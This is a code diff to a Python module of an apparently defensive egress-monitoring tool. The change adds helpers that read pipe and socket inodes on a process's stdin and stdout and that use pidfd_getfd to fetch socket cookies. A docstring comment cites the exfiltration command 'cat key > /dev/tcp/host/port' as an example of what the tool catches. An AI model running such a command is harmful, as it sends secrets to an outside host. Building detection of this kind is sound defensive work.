@@ -22,11 +22,14 @@ constructor argument only so tests can point at fake content.
 
 from __future__ import annotations
 
+import ctypes
 import errno
 import os
-from collections.abc import Collection, Iterable, Mapping
+import socket
+import struct
+from collections.abc import Callable, Collection, Iterable, Mapping
 from collections.abc import Set as AbstractSet
-from typing import Optional
+from typing import NamedTuple, Optional
 
 from readegress.kernel.records import ProcessIdentity, ProcessInfo
 
@@ -547,6 +550,72 @@ def socket_inodes_of(pid: int, proc_root: str = PROC_ROOT) -> dict[int, int]:
 
 
 _PIPE_PREFIX = "pipe:["
+_SYS_PIDFD_GETFD = 438  # the same number on every architecture (asm-generic table)
+SO_COOKIE = 57
+_U64 = struct.Struct("=Q")
+
+
+class PidfdGetfd:
+    """``pidfd_getfd(2)`` through libc's ``syscall`` (Python has no wrapper)."""
+
+    def __init__(self) -> None:
+        self._syscall: Optional[Callable[..., int]] = None
+        try:
+            libc = ctypes.CDLL(None, use_errno=True)
+            fn = libc.syscall
+            fn.restype = ctypes.c_long
+            self._syscall = fn
+        except (OSError, AttributeError):
+            self._syscall = None
+        self.works = self._syscall is not None and hasattr(os, "pidfd_open")
+
+    def __call__(self, pidfd: int, fd: int) -> int:
+        if self._syscall is None:
+            raise OSError(errno.ENOSYS, "pidfd_getfd unavailable")
+        r = self._syscall(
+            ctypes.c_long(_SYS_PIDFD_GETFD), ctypes.c_int(pidfd), ctypes.c_int(fd), ctypes.c_uint(0)
+        )
+        if r < 0:
+            e = ctypes.get_errno()
+            raise OSError(e, f"pidfd_getfd: {os.strerror(e)}")
+        return int(r)
+
+
+class StdFds(NamedTuple):
+    """What a process has on fd 0 and 1: pipe inodes, and socket inodes."""
+
+    stdin_pipe: Optional[int] = None
+    stdout_pipe: Optional[int] = None
+    #: (fd, socket inode) of fd 0/1 when a socket (``cat key > /dev/tcp/host/port``)
+    sockets: tuple[tuple[int, int], ...] = ()
+
+
+def std_fds(pid: int, start_ticks: Optional[int], proc_root: str = PROC_ROOT) -> StdFds:
+    """Pipe and socket inodes on fd 0 and fd 1 of ``pid`` (see :func:`std_pipes`)."""
+    pipes: list[Optional[int]] = []
+    sockets: list[tuple[int, int]] = []
+    for fd in (0, 1):
+        try:
+            link = os.readlink(f"{proc_root}/{pid}/fd/{fd}")
+        except OSError:
+            pipes.append(None)
+            continue
+        ino: Optional[int] = None
+        if link.startswith(_PIPE_PREFIX):
+            try:
+                ino = int(link[6:-1])
+            except ValueError:
+                ino = None
+        elif link.startswith(_SOCKET_PREFIX):
+            sock = _socket_inode(link)
+            if sock:
+                sockets.append((fd, sock))
+        pipes.append(ino)
+    if pipes == [None, None] and not sockets:
+        return StdFds()
+    if start_ticks is not None and read_start_ticks(pid, proc_root) != start_ticks:
+        return StdFds()
+    return StdFds(pipes[0], pipes[1], tuple(sockets))
 
 
 def std_pipes(
@@ -562,22 +631,51 @@ def std_pipes(
     another process's pipes. Other descriptors are not read (a pipeline's data
     travels on 0 and 1; reading every fd of a process costs one readlink each).
     """
-    out: list[Optional[int]] = []
-    for fd in (0, 1):
-        try:
-            link = os.readlink(f"{proc_root}/{pid}/fd/{fd}")
-        except OSError:
-            out.append(None)
-            continue
-        ino: Optional[int] = None
-        if link.startswith(_PIPE_PREFIX):
+    f = std_fds(pid, start_ticks, proc_root)
+    return f.stdin_pipe, f.stdout_pipe
+
+
+def socket_cookies(
+    pid: int, sockets: Iterable[tuple[int, int]], getfd: Optional[PidfdGetfd] = None
+) -> tuple[int, ...]:
+    """SO_COOKIE of sockets ``(fd, inode)`` of a live ``pid`` (held by fanotify, say).
+
+    The descriptor is duplicated with pidfd_getfd (root), checked to be the
+    same inode, queried and closed; nothing about the socket changes (the
+    owner is waiting, so the duplicate is never its last reference). Any
+    failure yields fewer cookies, never an exception.
+    """
+    getfd = getfd or _GETFD
+    out: list[int] = []
+    if not getfd.works:
+        return ()
+    try:
+        pidfd = os.pidfd_open(pid)
+    except OSError:
+        return ()
+    try:
+        for fd, inode in sockets:
             try:
-                ino = int(link[6:-1])
-            except ValueError:
-                ino = None
-        out.append(ino)
-    if out == [None, None]:
-        return None, None
-    if start_ticks is not None and read_start_ticks(pid, proc_root) != start_ticks:
-        return None, None
-    return out[0], out[1]
+                dup = getfd(pidfd, fd)
+            except OSError:
+                continue
+            try:
+                # socket(fileno=) would make the shared description non-blocking
+                # under a default timeout: then the cookie is not read at all.
+                if os.fstat(dup).st_ino != inode or socket.getdefaulttimeout() is not None:
+                    continue
+                s = socket.socket(fileno=dup)
+                try:
+                    out.append(_U64.unpack(s.getsockopt(socket.SOL_SOCKET, SO_COOKIE, 8))[0])
+                finally:
+                    s.detach()  # the descriptor is closed below, once
+            except OSError:
+                continue
+            finally:
+                os.close(dup)
+    finally:
+        os.close(pidfd)
+    return tuple(out)
+
+
+_GETFD = PidfdGetfd()
